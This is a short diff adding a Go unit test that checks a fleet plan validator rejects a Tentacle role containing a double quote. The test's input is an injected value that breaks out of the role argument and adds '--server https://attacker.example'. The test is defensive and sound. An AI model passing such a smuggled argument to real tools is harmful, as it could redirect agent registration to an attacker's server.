@@ -176,3 +176,17 @@ func TestFleetValidateFilesAndWindows(t *testing.T) {
 		}
 	}
 }
+
+// TestFleetRegisterAnyIsWindowsSafe: the fleet's own values reach
+// register-any.ps1's Tentacle.exe even when the fleet is Linux, so a
+// double quote is refused there as on a Windows Tentacle.
+func TestFleetRegisterAnyIsWindowsSafe(t *testing.T) {
+	p := fleetPlan()
+	p.Tentacle.Roles = []string{`web x" --server https://attacker.example --role "y`}
+	for _, pr := range p.Validate() {
+		if pr.Field == "tentacle.roles[0]" && pr.Severity == plan.Error && strings.Contains(pr.Message, "register-any.ps1") {
+			return
+		}
+	}
+	t.Errorf("Validate() = %s, want tentacle.roles[0] refused for register-any.ps1", p.Validate())
+}
